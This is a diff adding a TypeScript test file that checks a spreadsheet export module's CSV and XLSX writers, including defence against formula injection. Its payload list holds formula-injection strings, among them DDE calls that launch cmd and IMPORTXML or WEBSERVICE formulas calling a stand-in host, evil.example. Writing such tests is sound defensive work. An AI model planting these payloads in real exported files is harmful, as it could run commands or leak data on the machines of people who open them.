@@ -1,0 +1,118 @@
+import { cleanCell } from '@stowline/domain/orders/import/cells'
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { openArchive } from '../archive.ts'
+import type { OutCell } from './cells-out.ts'
+import { readSheet } from './read.ts'
+import { writeCsv } from './write-csv.ts'
+import { writeForm } from './write-form.ts'
+import { writeXlsx } from './write-xlsx.ts'
+
+const collect = async (parts: AsyncIterable<Uint8Array>): Promise<Buffer> => {
+  const all: Uint8Array[] = []
+  for await (const part of parts) all.push(part)
+  return Buffer.concat(all)
+}
+const formats = {
+  csv: (headers: readonly string[], rows: readonly (readonly OutCell[])[]) => collect(writeCsv(headers, rows)),
+  xlsx: (headers: readonly string[], rows: readonly (readonly OutCell[])[]) =>
+    collect(
+      writeXlsx(
+        'Orders',
+        headers.map((header) => ({ header })),
+        rows,
+      ),
+    ),
+} as const
+const readBack = async (bytes: Buffer): Promise<string[][]> => {
+  const rows: string[][] = []
+  for await (const { cells } of readSheet(bytes)) rows.push(cells.map(cleanCell))
+  return rows
+}
+
+/** What spreadsheets have been made to run. */
+const payloads = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example","click")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '=IMPORTXML("http://evil.example","//a")',
+  '=WEBSERVICE("http://evil.example")',
+  '-2+3+cmd|" /C calc"!A0',
+  '+cmd|"/C calc"!A0',
+  '=DDE("cmd","/C calc","x")',
+  "'=1+1",
+  '=1+1";=1+1',
+]
+
+describe.each(['csv', 'xlsx'] as const)('%s', (format) => {
+  test.each(payloads)('%j does not run, and comes back', async (payload) => {
+    const bytes = await formats[format](['text'], [[payload]])
+    if (format === 'csv') expect(bytes.toString().split('\r\n').slice(1).join('\r\n')).toMatch(/^"?'/)
+    else {
+      const archive = await openArchive(bytes)
+      const sheet = archive.entries.find(({ name }) => name === 'xl/worksheets/sheet1.xml')
+      if (!sheet) throw new Error('no sheet')
+      expect((await archive.readWhole(sheet)).toString()).not.toMatch(/<f[ >]/)
+    }
+    const [, row] = await readBack(bytes)
+    expect(row?.[0]).toBe(format === 'csv' ? cleanCell(`'${payload}`) : cleanCell(payload))
+  })
+
+  test('numbers stay numbers, also negative ones, and text that is a number stays text', async () => {
+    const [, row] = await readBack(await formats[format](['a', 'b', 'c', 'd'], [[-3.5, 12, '-3.50', '00501']]))
+    expect(row).toEqual(['-3.5', '12', '-3.50', '00501'])
+  })
+
+  test('whatever text goes in comes out', async () => {
+    const text = fc.string({ unit: 'binary', maxLength: 40 }).map((raw) => cleanCell(raw))
+    await fc.assert(
+      fc.asyncProperty(fc.array(text, { minLength: 3, maxLength: 3 }), async (row) => {
+        const [, back] = await readBack(await formats[format](['a', 'b', 'c'], [row, ['end', 'end', 'end']]))
+        expect(back ?? ['', '', '']).toEqual(
+          row.every((cell) => cell === '') && format === 'xlsx' ? ['end', 'end', 'end'] : [...row].slice(0, back?.length),
+        )
+      }),
+      { numRuns: 40 },
+    )
+  })
+})
+
+test('a form has its drop-downs and keeps ZIP codes as text', async () => {
+  const bytes = Buffer.from(
+    await writeForm([{ name: '订单', headers: ['ZIP*', 'Country'], rows: [['00501', 'US']], choices: [{ column: 1, values: ['US'] }] }]),
+  )
+  expect(await readBack(bytes)).toEqual([
+    ['ZIP*', 'Country'],
+    ['00501', 'US'],
+  ])
+  const archive = await openArchive(bytes)
+  const sheet = archive.entries.find(({ name }) => name.includes('sheet1.xml'))
+  if (!sheet) throw new Error('no sheet')
+  expect((await archive.readWhole(sheet)).toString()).toContain('<dataValidation')
+})
+
+test('100,000 rows are written in a flat amount of memory', { timeout: 60_000 }, async () => {
+  const rows = function* (): Generator<OutCell[]> {
+    for (let at = 0; at < 100_000; at++) yield [`SO${at}`, 'Dana Whitfield', '97209', at, 'LAMP-OAK-01']
+  }
+  const before = process.memoryUsage().rss
+  let size = 0
+  for await (const part of writeXlsx(
+    'Orders',
+    ['a', 'b', 'c', 'd', 'e'].map((header) => ({ header })),
+    rows(),
+  ))
+    size += part.length
+  expect(size).toBeGreaterThan(500_000)
+  expect(process.memoryUsage().rss - before).toBeLessThan(150e6)
+})
